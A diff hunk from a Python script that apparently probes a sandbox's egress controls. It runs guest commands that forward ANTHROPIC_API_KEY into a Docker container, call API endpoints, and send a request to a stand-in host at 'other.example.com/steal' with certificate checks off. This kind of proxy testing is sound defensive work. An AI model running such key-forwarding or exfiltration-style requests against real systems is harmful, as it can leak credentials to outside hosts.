@@ -33,6 +33,11 @@ def main() -> None:
             "python3 -c \"import urllib.request as u, os; r = u.Request('https://api.anthropic.com/v1/messages', b'{}',"
             " {'x-api-key': os.environ['ANTHROPIC_API_KEY']}); print(u.urlopen(r).status)\""
         )
+        found["service"] = guest(
+            'docker exec -e ANTHROPIC_API_KEY $(docker ps -q) sh -c "'
+            "curl -sS -m 60 -w '%{http_code}' -X POST -d '{}' -H 'x-api-key: proxy-managed'"
+            ' https://api.anthropic.com/v1/messages"'
+        )
         found["path"] = guest(f"{call} https://api.anthropic.com/v1/files")
         found["method"] = guest(f"{curl} -X DELETE https://api.anthropic.com/v1/messages")
         found["elsewhere"] = guest(f"{call} -k https://other.example.com/steal")
